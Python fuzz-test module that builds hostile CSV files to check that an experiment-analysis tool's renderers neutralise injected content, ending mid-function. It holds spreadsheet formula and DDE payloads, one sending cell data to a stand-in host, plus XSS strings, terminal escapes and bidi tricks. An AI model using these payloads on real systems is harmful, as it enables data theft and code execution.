"""Hostile results files, and the invariants every answer to them must keep.

One generator serves two drivers: hypothesis (``case()``, a strategy that shrinks towards a plain
file) in the test suite, and a seeded ``random.Random`` (``make_case(rng)``) in the long-run
benchmark ``benchmarks/fuzz_bench.py``. Both build a :class:`Case` from the same choices:

- layout: aggregated (``variant,users,conversions[,guardrail_*][,<m>_sum,<m>_sum_sq]
  [,<r>_num_sum,…][,segment]``) or user-level (``user_id,variant,converted,…``);
- labels and column names: plain, or formula (``=HYPERLINK(…)``, ``+``, ``-``, ``@``), HTML
  (``<script>``), terminal escapes (``\\x1b[31m``, ``\\x1b]0;…\\x07``, C1), bidi overrides
  (``\\u202e``), Slack mentions (``<!channel>``, ``<!here>``, ``<@U123>``), quoted newlines and
  very long fields;
- numbers: plausible, or mutated (negative, NaN, inf, 1e308, above 2**53, blank, words);
- columns: missing, duplicated, renamed; rows ragged or repeated;
- encodings (UTF-8, BOM, UTF-16, Latin-1, cp1252) and delimiters (``,`` ``;`` tab ``|``);
- options (control, name, split, looks, margins, ratios, correction) as the CLI takes them.

The invariants (:func:`exercise`): only an :class:`ExperimentError` escapes the library; every
p-value lies in [0, 1] and every finite CI contains its estimate; no renderer raises; no output
holds raw ``<script``, a Slack mention, a control character or a bidi override; no Markdown or
HTML table cell starts with a formula character taken from a label; Markdown table rows keep the
header's column count; the JSON is strict and rebuilds the same memo.
"""

from __future__ import annotations

import csv
import html as html_lib
import io
import json
import math
import random
import re
import warnings
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import cache
from html.parser import HTMLParser
from typing import Any, TypeVar

from hypothesis import strategies as st

T = TypeVar("T")

# --------------------------------------------------------------------------- hostile strings

FORMULA_TEXT = (
    '=HYPERLINK("http://evil.test/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
HTML_TEXT = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "&lt;script&gt;",
)
TERMINAL_TEXT = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.test\x07link\x1b]8;;\x07",
    "\x9b31mcsi",
    "bell\x07back\x08del\x7f",
    "cr\roverwrite",
    "nul\x00byte",
)
BIDI_TEXT = ("\u202eexe.txt", "\u202agood\u202c", "\u2066isolate\u2069", "ab\u202dcd")
SLACK_TEXT = ("<!channel>", "<!here>", "<!everyone>", "<@U123ABC>", "<@W0123>", "<!subteam^S1>")
MARKUP_TEXT = (
    "a\nb",
    "line1\r\nline2",
    'quote"inside',
    "comma,inside",
    "semi;colon",
    "tab\tinside",
    "pipe|inside",
    "*bold* _it_ `code` ~s~",
    "[x](http://evil.test)",
    "日本語",
    "é",
    "\u200b",
    "",
    "  spaced  ",
)
HOSTILE_TEXT = FORMULA_TEXT + HTML_TEXT + TERMINAL_TEXT + BIDI_TEXT + SLACK_TEXT + MARKUP_TEXT
LONG_CHARS = ("x", "<", "&", "_", "\x1b", "=", "\u202e", "|", "é", "*")

NUMBER_MUTANTS = (
    "-1",
    "-5000",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "1e308",
    "-1e308",
    "1e309",
    str(2**53 + 1),
    str(2**63 + 7),
    "9" * 40,
    "",
    " ",
    "abc",
    "1,000",
    "1.5",
    "0",
    "1e-320",
    "0x10",
    "١٢٣",
    "5e3",
    "TRUE",
    "#N/A",
)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252", "utf-16-le")
DELIMITERS = (",", ";", "\t", "|")
RENDERERS = ("text", "md", "html", "json", "blocks", "pdf")
CLI_FLAGS = {
    "name": "name",
    "split": "split",
    "control": "control",
    "primary": "primary",
    "guardrails": "guardrails",
    "higher_is_better": "higher-is-better",
    "correction": "correction",
    "look": "look",
    "of_looks": "of",
    "margins": "margins",
    "ratios": "ratio",
    "variant_column": "variant-column",
}

# --------------------------------------------------------------------------- choices


class Picker:
    """The choices a case is built from; subclasses draw them from hypothesis or a seeded RNG.

    Every ``options`` sequence lists the plain choice first, so hypothesis shrinks towards it.
    """

    def choice(self, options: Sequence[T]) -> T:
        raise NotImplementedError

    def integer(self, low: int, high: int) -> int:
        raise NotImplementedError

    def chance(self, p: float) -> bool:
        raise NotImplementedError


class HypothesisPicker(Picker):
    def __init__(self, draw: Callable[[st.SearchStrategy[Any]], Any]) -> None:
        self.draw = draw

    def choice(self, options: Sequence[T]) -> T:
        return self.draw(st.sampled_from(options))

    def integer(self, low: int, high: int) -> int:
        return self.draw(st.integers(low, high))

    def chance(self, p: float) -> bool:
        # Shrinks to 0, that is to False: to the unmutated file.
        return self.draw(st.integers(0, 999)) >= round(1000 * (1 - p))


class RandomPicker(Picker):
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def choice(self, options: Sequence[T]) -> T:
        return options[self.rng.randrange(len(options))]

    def integer(self, low: int, high: int) -> int:
        return self.rng.randint(low, high)

    def chance(self, p: float) -> bool:
        return self.rng.random() < p


# --------------------------------------------------------------------------- cases


@dataclass(repr=False)
class Case:
    data: bytes
    layout: str
    """``aggregated`` or ``user``."""
    options: dict[str, str] = field(default_factory=dict)
    """Keyword arguments of ``experimentos.options.build_options``, as raw strings."""
    texts: tuple[str, ...] = ()
    """Every label, column name and option value planted in the file or the options."""
    notes: tuple[str, ...] = ()
    """The mutations applied, for a human reading a failure."""
    file_name: str = "fuzz.csv"
    columns: tuple[str, ...] = ()
    """The header as written (before encoding), for the duplicate-column invariant."""

    def cli_args(self, path: str, fmt: str, out: str | None = None) -> list[str]:
        """``experimentos analyze`` arguments for this case (``--flag=value``, so a value may
        start with ``-``); options holding a NUL byte, which no argv can carry, are left out."""
        args = ["analyze", path, f"--format={fmt}"]
        for key, value in self.options.items():
            if "\x00" not in value:
                args.append(f"--{CLI_FLAGS[key]}={value}")
        if out is not None:
            args.append(f"--out={out}")
        return args

    def __repr__(self) -> str:
        """Short, for hypothesis' failure report: the mutations and the file's first bytes."""
        return f"Case({self.describe(short=True)!r})"

    def describe(self, *, short: bool = False) -> dict[str, Any]:
        """The case for a human; ``short`` cuts long option values to 80 characters."""
        options = {k: v[:80] if short else v for k, v in self.options.items()}
        return {
            "layout": self.layout,
            "options": options,
            "notes": list(self.notes),
            "bytes": len(self.data),
            "head": self.data[:600].decode("utf-8", "backslashreplace"),
        }


def _label(pick: Picker, plain: Sequence[str], max_long: int, notes: list[str]) -> str:
    if not pick.chance(0.6):
        return pick.choice(plain)
    kind = pick.choice(("hostile", "long"))
    if kind == "hostile":
        text = pick.choice(HOSTILE_TEXT)
        notes.append(f"label {text!r}")
        return text
    char = pick.choice(LONG_CHARS)
    length = pick.integer(1, max_long)
    notes.append(f"label {char!r} x {length}")
    return char * length


def _column_name(pick: Picker, base: str, max_long: int, notes: list[str]) -> str:
    """``guardrail_<x>`` or ``<x>`` where x may be hostile: the family prefix/suffix is kept."""
    if not pick.chance(0.3):
        return base
    text = _label(pick, (base,), max_long, notes)
    return text if text == base else f"{base}_{text}"


def _mutate_number(pick: Picker, value: str, rate: float, notes: list[str], where: str) -> str:
    if not pick.chance(rate):
        return value
    mutant = pick.choice(NUMBER_MUTANTS)
    notes.append(f"{where} = {mutant!r}")
    return mutant


def _regime(pick: Picker) -> tuple[int, int]:
    """(low, high) users per arm: ordinary, tiny, or big enough to pass 2**53 when pooled."""
    regime = pick.choice(("ordinary", "tiny", "huge"))
    if regime == "tiny":
        return 3, 20
    if regime == "huge":
        return 2**51, 2**53 - 1
    return 1_000, 200_000


def _aggregated(pick: Picker, max_long: int, notes: list[str]) -> tuple[list[list[str]], dict]:
    options: dict[str, str] = {}
    arms = pick.integer(2, 4)
    labels = ["control"]
    if pick.chance(0.3):
        labels[0] = _label(pick, ("a", "control"), max_long, notes)
        if pick.chance(0.9):
            options["control"] = labels[0]
    for i in range(1, arms):
        labels.append(_label(pick, (f"treatment_{i}", "variant_b", "b"), max_long, notes))
    guardrails = [
        _column_name(pick, f"guardrail_{name}", max_long, notes)
        for name in ("error", "refund")[: pick.integer(0, 2)]
    ]
    means = [_column_name(pick, "revenue", max_long, notes)] if pick.chance(0.3) else []
    ratio = pick.chance(0.2)
    segments = (
        [
            _label(pick, ("mobile", "desktop", "web"), max_long, notes)
            for _ in range(pick.integer(1, 3))
        ]
        if pick.chance(0.25)
        else [None]
    )
    header = ["variant", "users", "conversions", *guardrails]
    for m in means:
        header += [f"{m}_sum", f"{m}_sum_sq"]
    if ratio:
        header += [
            f"aov{s}"
            for s in ("_num_sum", "_num_sum_sq", "_den_sum", "_den_sum_sq", "_num_den_sum")
        ]
    if segments != [None]:
        header.append("segment")
    low, high = _regime(pick)
    base = pick.integer(low, high)
    rate_shape = pick.choice((0.1, 0.0, 1.0, 0.5, 0.01))
    mutation_rate = pick.choice((0.05, 0.2)) if pick.chance(0.3) else 0.0
    rows = []
    for label in labels:
        for segment in segments:
            jitter = min(30, base // 10)
            users = max(0, base + pick.integer(-jitter, jitter))
            conversions = min(users, max(0, round(users * rate_shape) + pick.integer(-30, 30)))
            row = [label, str(users), str(conversions)]
            row += [str(min(users, max(0, users // 100 + pick.integer(-5, 5)))) for _ in guardrails]
            for _ in means:
                mean, sd = pick.choice((5.0, 0.0, -3.0, 1e6)), pick.choice((12.0, 0.0, 1e-3))
                row += [repr(mean * users), repr(sd**2 * max(users - 1, 0) + mean**2 * users)]
            if ratio:
                row += _ratio_sums(users, pick.choice((0.15, 0.0, 1e150)))
            if segment is not None:
                row.append(segment)
            for j in range(1, len(row) - (segment is not None)):
                row[j] = _mutate_number(
                    pick, row[j], mutation_rate, notes, f"{label[:20]!r}.{header[j][:20]}"
                )
            rows.append(row)
    texts = [*labels, *guardrails, *means, *(s for s in segments if s is not None)]
    options.update(_options(pick, max_long, notes, arms, guardrails, ratio_names=None))
    return [header, *rows], {"options": options, "texts": texts}


def _ratio_sums(n: int, den_mean: float) -> list[str]:
    """Σx, Σx², Σy, Σy², Σxy of n users with mean y ``den_mean``, x ≈ 40 y, correlation 0.5."""
    num_mean, den_var = 40.0 * den_mean, den_mean
    num_var = 1600.0 * den_var
    cov = 0.5 * math.sqrt(num_var * den_var)
    sums = (
        n * num_mean,
        (n - 1) * num_var + n * num_mean**2,
        n * den_mean,
        (n - 1) * den_var + n * den_mean**2,
        (n - 1) * cov + n * num_mean * den_mean,
    )
    return [repr(v) for v in sums]


def _user_level(
    pick: Picker, max_long: int, max_rows: int, notes: list[str]
) -> tuple[list[list[str]], dict]:
    options: dict[str, str] = {}
    arms = pick.integer(2, 3)
    labels = ["control"] + [
        _label(pick, (f"treatment_{i}", "b"), max_long, notes) for i in range(1, arms)
    ]
    if pick.chance(0.2):
        labels[0] = _label(pick, ("a", "control"), max_long, notes)
        options["control"] = labels[0]
    guardrail = _column_name(pick, "guardrail_error", max_long, notes) if pick.chance(0.4) else None
    revenue = pick.chance(0.4)
    covariate = revenue and pick.chance(0.3)
    ratio = pick.chance(0.2)
    segments = (
        [_label(pick, ("mobile", "desktop"), max_long, notes) for _ in range(pick.integer(1, 3))]
        if pick.chance(0.25)
        else None
    )
    header = ["user_id", "variant", "converted"]
    header += [guardrail] if guardrail else []
    header += ["revenue"] if revenue else []
    header += ["pre_revenue"] if covariate else []
    header += ["orders", "spend"] if ratio else []
    header += ["segment"] if segments else []
    ids = pick.choice(("repeated", "text")) if pick.chance(0.3) else "int"
    mutation_rate = pick.choice((0.02, 0.1)) if pick.chance(0.3) else 0.0
    scale = pick.choice((1.0, 1e300, -1.0, 2.0**60))
    rows = []
    for i in range(pick.integer(2, max_rows)):
        arm = labels[i % arms]
        uid = {"int": str(i + 1), "text": f"u{i + 1}", "repeated": str(i // 2 + 1)}[ids]
        row = [uid, arm, pick.choice(("0", "1", "yes", "TRUE", "no"))]
        row += [pick.choice(("0", "1"))] if guardrail else []
        row += [repr(scale * pick.integer(0, 100) / 7)] if revenue else []
        row += [repr(pick.integer(0, 100) / 3)] if covariate else []
        row += [str(pick.integer(0, 5)), repr(pick.integer(0, 500) * 1.5)] if ratio else []
        row += [pick.choice(segments)] if segments else []
        for j in range(2, len(row) - bool(segments)):
            row[j] = _mutate_number(
                pick, row[j], mutation_rate, notes, f"row {i + 2}.{header[j][:20]}"
            )
        rows.append(row)
    texts = [*labels, *([guardrail] if guardrail else []), *(segments or [])]
    options.update(
        _options(pick, max_long, notes, arms, [guardrail] if guardrail else [], ratio_names=ratio)
    )
    return [header, *rows], {"options": options, "texts": texts}


def _options(
    pick: Picker,
    max_long: int,
    notes: list[str],
    arms: int,
    guardrails: list[str],
    ratio_names: bool | None,
) -> dict[str, str]:
    options: dict[str, str] = {}
    if not pick.chance(0.5):
        return options
    if pick.chance(0.3):
        options["name"] = _label(pick, ("Checkout v2",), max_long, notes)
    if pick.chance(0.15):
        options["split"] = pick.choice(
            (
                "/".join(["1"] * arms),
                "60/40",
                "inf/1",
                "0/1",
                "1e308/1",
                "-1/2",
                "nan/1",
                "1e-320/1",
            )
        )
    if pick.chance(0.15):
        options["look"], options["of_looks"] = pick.choice(
            (("1", "2"), ("2", "3"), ("1", "1000000"), ("3", "2"), ("0", "2"))
        )
    if guardrails and pick.chance(0.2):
        options["margins"] = f"{guardrails[0]}={pick.choice(('1%', '0%', '-1%', 'inf%', '1e308%'))}"
    if guardrails and pick.chance(0.1):
        options["higher_is_better"] = guardrails[-1]
    if pick.chance(0.1):
        options["correction"] = pick.choice(("holm", "bonferroni", "bh", "<script>"))
    if ratio_names and pick.chance(0.7):
        options["ratios"] = pick.choice(("aov=spend/orders", "x=orders/orders", "bad=spend/nope"))
    notes += [f"option {k}={v!r}" for k, v in options.items()]
    return options


def _mutate_columns(pick: Picker, table: list[list[str]], max_long: int, notes: list[str]) -> None:
    """Drop, duplicate or rename a column; make a row ragged or repeat it."""
    header = table[0]
    if not pick.chance(0.35) or len(header) < 2:
        return
    mutation = pick.choice(("extra", "drop", "duplicate", "rename", "ragged", "repeat_row"))
    j = pick.integer(0, len(header) - 1)
    notes.append(f"{mutation} column {header[j][:30]!r}")
    if mutation == "drop":
        for row in table:
            if j < len(row):
                del row[j]
    elif mutation == "duplicate":
        for row in table:
            if j < len(row):
                row.append(row[j])
    elif mutation == "rename":
        header[j] = pick.choice(
            ("Variant ", "GROUP", " users", "Conversions", "arm", "user id", "", *HOSTILE_TEXT)
        )
    elif mutation == "ragged" and len(table) > 1:
        row = table[pick.integer(1, len(table) - 1)]
        if pick.chance(0.5):
            row.pop()
        else:
            row.append(pick.choice(("1", "", *HOSTILE_TEXT)))
    elif mutation == "repeat_row" and len(table) > 1:
        table.append(list(table[pick.integer(1, len(table) - 1)]))
    elif mutation == "extra":
        text = _label(pick, ("notes",), max_long, notes)
        header.append(text)
        for row in table[1:]:
            row.append(_label(pick, ("ok",), max_long, notes))


def build_case(pick: Picker, *, max_long: int = 3_000, max_rows: int = 60) -> Case:
    """A results file and options from ``pick``'s choices (plain first, hostile after)."""
    notes: list[str] = []
    layout = pick.choice(("aggregated", "user"))
    if layout == "aggregated":
        table, extra = _aggregated(pick, max_long, notes)
    else:
        table, extra = _user_level(pick, max_long, max_rows, notes)
    _mutate_columns(pick, table, max_long, notes)
    delimiter = pick.choice(DELIMITERS)
    newline = pick.choice(("\n", "\r\n"))
    quoting = pick.choice((csv.QUOTE_MINIMAL, csv.QUOTE_ALL))
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=quoting).writerows(
        table
    )
    encoding = pick.choice(ENCODINGS[1:]) if pick.chance(0.25) else ENCODINGS[0]
    if (delimiter, encoding, quoting) != (",", "utf-8", csv.QUOTE_MINIMAL):
        notes.append(f"delimiter {delimiter!r}, encoding {encoding}, quoting {quoting}")
    data = buffer.getvalue().encode(encoding, "replace")
    texts = tuple(str(t) for t in (*extra["texts"], *table[0], *extra["options"].values()))
    return Case(data, layout, extra["options"], texts, tuple(notes), columns=tuple(table[0]))


@st.composite
def case(draw: Callable[[st.SearchStrategy[Any]], Any], max_long: int = 3_000) -> Case:
    """The hypothesis strategy: shrinks towards a plain two-arm aggregated file."""
    return build_case(HypothesisPicker(draw), max_long=max_long)


def make_case(rng: random.Random, *, max_long: int = 20_000, max_rows: int = 400) -> Case:
    """The benchmark's seeded generator: the same choices, drawn from ``rng``."""
    return build_case(RandomPicker(rng), max_long=max_long, max_rows=max_rows)


# --------------------------------------------------------------------------- invariants

CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""C0 (but tab and newline), DEL and C1: ESC, BEL, CSI (\\x9b), CR…"""
BIDI_CHARS = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
SLACK_MENTION = re.compile(
    r"(?<!\\)(<!(channel|here|everyone)(\|[^>]*)?>|<!subteam\^\w+(\|[^>]*)?>|<@[UW]\w+(\|[^>]*)?>)",
    re.IGNORECASE,
)
"""A mention Slack expands, up to its closing ``>``. Not after a backslash: the memo's Markdown is
a file (rendered to HTML, ``\\<!here>`` is text), never a Slack message."""
SCRIPT_TAG = re.compile(r"(?<!\\)<\s*script", re.IGNORECASE)
"""Not after a backslash: ``\\<script\\>`` in Markdown is text."""
HTML_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "strong",
        "em",
        "code",
        "pre",
        "hr",
        "br",
        "blockquote",
        "figure",
        "img",
    ]
)
_NUMBER_START = re.compile(r"[+\-][\d.]")


def text_leaks(text: str, *, fmt: str, markup: bool = True) -> list[str]:
    """Control characters or bidi overrides in one rendered output and, where a program reads
    the text as markup (HTML, Markdown, Slack mrkdwn: ``markup``), raw ``<script`` or a mention.

    A terminal, a PDF page, JSON data or a Slack ``plain_text`` field shows ``<script>`` and
    ``<!here>`` as the literal characters they are, so there they are no leak.
    """
    problems = []
    patterns = [("control character", CONTROL_CHARS), ("bidi override", BIDI_CHARS)]
    if markup:
        patterns += [("Slack mention", SLACK_MENTION), ("raw <script", SCRIPT_TAG)]
    for name, pattern in patterns:
        found = pattern.search(text)
        if found:
            start = max(found.start() - 30, 0)
            problems.append(f"{fmt}: {name} {text[start : found.end() + 30]!r}")
    return problems


def _formula_prefixes(texts: Sequence[str]) -> tuple[str, ...]:
    return tuple(
        {t.strip().casefold()[:4] for t in texts if t.strip()[:1] in "=+-@" and len(t.strip()) > 1}
    )


def formula_cell(cell: str, prefixes: Sequence[str]) -> bool:
    """A table cell that a spreadsheet would run: it starts with = or @, or with + or - and is not
    a number the memo printed (``-1.2%``, ``+0.40 pp``), or it starts with a planted label."""
    cell = cell.strip()
    if not cell or cell[0] not in "=+-@":
        return False
    if cell[0] in "=@" or not _NUMBER_START.match(cell):
        return True
    return cell.casefold().startswith(tuple(prefixes))


def _row_cells(line: str) -> list[str]:
    """The cells of one Markdown table row; ``\\|`` is not a separator."""
    cells = re.split(r"(?<!\\)\|", line.strip())
    return cells[1:-1] if line.strip().endswith("|") and len(cells) > 2 else cells[1:]


def _delimiter_row(line: str) -> bool:
    return line.startswith("|") and set(line.strip()) <= set("|-: ") and "-" in line


def markdown_problems(markdown: str, texts: Sequence[str]) -> list[str]:
    """Formula cells, and rows whose cell count differs from their table's header."""
    problems = []
    prefixes = _formula_prefixes(texts)
    lines = markdown.split("\n")
    width = None
    for number, line in enumerate(lines, start=1):
        if not line.startswith("|"):
            width = None
            continue
        if _delimiter_row(line):
            continue
        cells = _row_cells(line)
        if number < len(lines) and _delimiter_row(lines[number]):
            width = len(cells)  # the header of a table
        elif width is not None and len(cells) != width:
            problems.append(
                f"md: a row of {len(cells)} cells under a {width}-cell header: {line[:80]!r}"
            )
        problems += [
            f"md: formula cell {c.strip()[:60]!r}" for c in cells if formula_cell(c, prefixes)
        ]
    return problems


class _HtmlCells(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.cells: list[str] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.cells.append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def html_problems(page: str, texts: Sequence[str]) -> list[str]:
    parser = _HtmlCells()
    parser.feed(page)
    parser.close()
    problems = [f"html: tag <{tag}> from data" for tag in sorted(parser.tags - HTML_TAGS)]
    prefixes = _formula_prefixes(texts)
    problems += [
        f"html: formula cell {html_lib.unescape(c).strip()[:60]!r}"
        for c in parser.cells
        if formula_cell(c, prefixes)
    ]
    return problems


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _metrics(analysis: Any) -> Iterator[Any]:
    yield from analysis.primary
    yield from analysis.secondary
    yield from (g.metric for g in analysis.guardrails)
    yield from (s.metric for s in analysis.segments)


def statistics_problems(analysis: Any) -> list[str]:
    """p-values in [0, 1] and each finite CI holding its estimate.

    NaN is allowed where a test cannot be computed (a secondary ratio with no denominator, one
    user in an arm: shown as "n/a"), but not for the primary metric or SRM of an analysis that
    passed health, since the verdict rests on those."""
    problems = []
    ps: list[tuple[str, float | None]] = []
    if not analysis.health.blocked:
        ps += [(f"primary {m.arm[:20]!r} p (NaN)", m.comparison.p_value) for m in analysis.primary]
        if analysis.health.srm is not None:
            ps.append(("SRM p (NaN)", analysis.health.srm.p_value))
    ps = [(name, p) for name, p in ps if p is not None and math.isnan(p)]
    for m in _metrics(analysis):
        c = m.comparison
        where = f"{m.role} {m.name[:30]!r} {m.arm[:20]!r}"
        ps += [(f"{where} p", c.p_value), (f"{where} adjusted p", m.p_value_adjusted)]
        for kind, estimate, (low, high) in (
            ("abs", c.abs_lift, c.abs_ci),
            ("rel", c.rel_lift, c.rel_ci),
        ):
            values = (estimate, low, high)
            if all(math.isfinite(v) for v in values):
                slack = 1e-9 * max(1.0, *(abs(v) for v in values))
                if not low - slack <= estimate <= high + slack:
                    problems.append(f"{where}: {kind} CI [{low!r}, {high!r}] misses {estimate!r}")
    if analysis.health.srm is not None:
        ps.append(("SRM p", analysis.health.srm.p_value))
    if analysis.overall is not None:
        ps.append(("omnibus p", analysis.overall.p_value))
    ps += [(f"heterogeneity {h.arm[:20]!r} p", h.p_value) for h in analysis.heterogeneity]
    ps += [(f"segment {s.segment[:20]!r} SRM p", s.srm_p_value) for s in analysis.segments]
    ps += [
        (f"guardrail {g.metric.name[:20]!r} margin p", g.margin_p_value)
        for g in analysis.guardrails
    ]
    for name, p in ps:
        if p is not None and (p < 0.0 or p > 1.0 or (math.isnan(p) and "(NaN)" in name)):
            problems.append(f"{name} = {p!r}")
    if analysis.verdict.kind not in ("launch", "hold", "rollback"):
        problems.append(f"verdict {analysis.verdict.kind!r}")
    return problems


def column_problems(case: Case, analysis: Any) -> list[str]:
    """Two columns with one name (after trimming and case-folding) make the file ambiguous: the
    analysis must not pass health with one of them read as a metric of its own."""
    names = [re.sub(r"\s+", " ", c.strip().casefold()) for c in case.columns]
    twice = sorted({n for n in names if n and names.count(n) > 1})
    if twice and not analysis.health.blocked:
        return [f"duplicate column {twice[0][:40]!r} passed health ({analysis.health.status})"]
    return []


def csv_case(text: str, layout: str = "aggregated", **options: str) -> Case:
    """A hand-written file (comma-separated, UTF-8) as a Case."""
    rows = list(csv.reader(io.StringIO(text)))
    texts = tuple(c for row in rows for c in row if not re.fullmatch(r"[\d.e+-]*", c))
    return Case(text.encode(), layout, dict(options), texts, ("explicit",), columns=tuple(rows[0]))


EXPLICIT_CASES = (
    # Empty guardrail cells.
    csv_case("variant,users,conversions,guardrail_error\ncontrol,5000,500,\ntreatment,5000,510,\n"),
    # Ratio sums near the float limit.
    csv_case(
        "variant,users,conversions,aov_num_sum,aov_num_sum_sq,aov_den_sum,aov_den_sum_sq,"
        "aov_num_den_sum\ncontrol,1000,100,1e200,1e307,1e200,1e307,1e300\n"
        "treatment,1000,110,1e200,1e307,1e200,1e307,1e300\n"
    ),
    # 0 % against 100 % at a sequential look; a look of a million.
    csv_case(
        "variant,users,conversions\ncontrol,1000,0\ntreatment,1000,1000\n", look="1", of_looks="2"
    ),
    csv_case(
        "variant,users,conversions\ncontrol,1000,100\ntreatment,1000,130\n",
        look="1",
        of_looks="1000000",
    ),
    # A non-finite split part; a finite but subnormal one (an infinite SRM chi-square).
    csv_case("variant,users,conversions\ncontrol,1000,100\ntreatment,1000,130\n", split="inf/1"),
    csv_case("variant,users,conversions\ncontrol,1000,100\ntreatment,1000,130\n", split="1e-320/1"),
    # Duplicated columns, aggregated and user-level.
    csv_case(
        "variant,users,conversions,conversions\ncontrol,5000,500,500\ntreatment,5000,600,600\n"
    ),
    csv_case(
        "user_id,variant,converted,converted\n1,control,1,1\n2,treatment,0,0\n3,control,0,0\n"
        "4,treatment,1,1\n",
        layout="user",
    ),
    # A margin on a guardrail with no events in either arm.
    csv_case(
        "variant,users,conversions,guardrail_error\ncontrol,5000,500,0\ntreatment,5000,510,0\n",
        margins="guardrail_error=1%",
    ),
    # Totals above 2**53 when the segments are pooled.
    csv_case(
        "variant,users,conversions,segment\n"
        + "".join(
            f"{arm},{2**52},{2**51},s{k}\n" for k in range(3) for arm in ("control", "treatment")
        )
    ),
)
"""Files of the kinds the generator reaches only now and then, run before the generated ones."""


def options_of(case: Case) -> Any:
    from experimentos.options import build_options

    return build_options(**case.options)


def analyse(case: Case) -> tuple[Any, str | None]:
    """The library's answer: (Analysis, None), or (None, message) when an ExperimentError (the
    contract) ended it. Any other exception propagates: it is a crash."""
    from experimentos.analysis.assemble import analyze
    from experimentos.errors import ExperimentError
    from experimentos.model import Thresholds

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            options = options_of(case)
            return analyze(
                case.data, file_name=case.file_name, options=options, thresholds=Thresholds()
            ), None
        except ExperimentError as error:
            return None, error.message


def error_problems(message: str) -> list[str]:
    """An error the user sees (stderr, a Slack reply): one paragraph, nothing raw from the data."""
    problems = [p for p in text_leaks(message, fmt="error") if "<script" not in p]
    # Slack shows it as mrkdwn: a mention there would notify; <script> is inert.
    if not message.strip() or "\n\n" in message.strip() or "Traceback" in message:
        problems.append(f"error: not one paragraph: {message[:200]!r}")
    return problems


@cache
def _cli_renderer(fmt: str) -> Callable[[Any], str]:
    from experimentos.cli.commands import _formats

    return _formats()[fmt]()


def render(fmt: str, analysis: Any) -> str | bytes:
    """One renderer's output as ``experimentos analyze --format`` writes it (the HTML and the PDF
    without the forest plot, which matplotlib draws from numbers only)."""
    if fmt in ("text", "md", "json", "blocks"):
        return _cli_renderer(fmt)(analysis)
    if fmt == "html":
        from experimentos.report.memo import render_html

        return render_html(analysis)
    if fmt == "pdf":
        from experimentos.report.pdf import render_pdf

        return render_pdf(analysis, with_chart=False)
    raise ValueError(fmt)


def output_problems(
    fmt: str, output: str | bytes, texts: Sequence[str], analysis: Any = None
) -> list[str]:
    """The leak invariants of one renderer's output."""
    if fmt == "pdf":
        return pdf_problems(output)  # type: ignore[arg-type]
    assert isinstance(output, str)
    if fmt == "json":
        # Data, not display: the full labels stay, but nothing raw reaches a terminal.
        problems = text_leaks(output, fmt=fmt, markup=False)
        if analysis is not None:
            problems += json_roundtrip_problems(output, analysis)
        return problems
    if fmt == "blocks":
        return blocks_problems(json.loads(output))
    problems = text_leaks(output, fmt=fmt, markup=fmt != "text")
    if fmt == "md":
        problems += markdown_problems(output, texts)
    if fmt == "html":
        problems += html_problems(output, texts)
    return problems


def blocks_problems(message: Any) -> list[str]:
    """Every string of the card is checked for control and bidi characters; the ``text``
    fallback (notifications) and every mrkdwn field also for mentions and ``<script``."""
    problems = [p for s in _strings(message) for p in text_leaks(s, fmt="blocks", markup=False)]
    mrkdwn = [message.get("text", "")]
    stack = list(message.get("blocks", []))
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            if item.get("type") == "mrkdwn" and isinstance(item.get("text"), str):
                mrkdwn.append(item["text"])
            stack += list(item.values())
        elif isinstance(item, list):
            stack += item
    for text in mrkdwn:
        problems += [
            p for p in text_leaks(text, fmt="blocks mrkdwn") if "mention" in p or "<script" in p
        ]
    return problems


def json_roundtrip_problems(output: str, analysis: Any) -> list[str]:
    from experimentos.model_json import analysis_from_dict
    from experimentos.report.memo import render_markdown

    rebuilt = analysis_from_dict(json.loads(output))
    if render_markdown(rebuilt) != render_markdown(analysis):
        return ["json: the rebuilt Analysis renders a different memo"]
    return []


def pdf_problems(pdf: bytes) -> list[str]:
    if not pdf.startswith(b"%PDF"):
        return ["pdf: not a PDF"]
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(pdf))
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    title = str((reader.metadata or {}).get("/Title", ""))
    return text_leaks(text + "\n" + title, fmt="pdf", markup=False)


@dataclass
class Outcome:
    """What one case did: ``problems`` maps a kind (crash, leak, statistics) to messages."""

    analysed: bool = False
    problems: dict[str, list[str]] = field(default_factory=dict)

    def add(self, kind: str, messages: list[str]) -> None:
        if messages:
            self.problems.setdefault(kind, []).extend(messages)


def exercise(case: Case, formats: Sequence[str] = RENDERERS) -> Outcome:
    """The case through the library and each renderer, every invariant checked; never raises."""
    outcome = Outcome()
    try:
